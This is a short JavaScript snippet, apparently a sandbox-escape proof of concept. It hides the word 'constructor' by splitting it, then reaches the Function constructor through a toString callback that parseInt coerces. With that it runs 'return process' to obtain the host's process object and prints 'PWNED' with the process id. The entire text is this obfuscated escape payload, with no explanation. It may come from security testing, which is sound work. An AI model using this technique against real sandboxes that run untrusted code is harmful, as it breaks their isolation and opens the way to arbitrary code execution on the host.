'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
let got;
parseInt({ toString() { got = fn[w]; return '1'; } });
console.log('PWNED', got('return process')().pid);
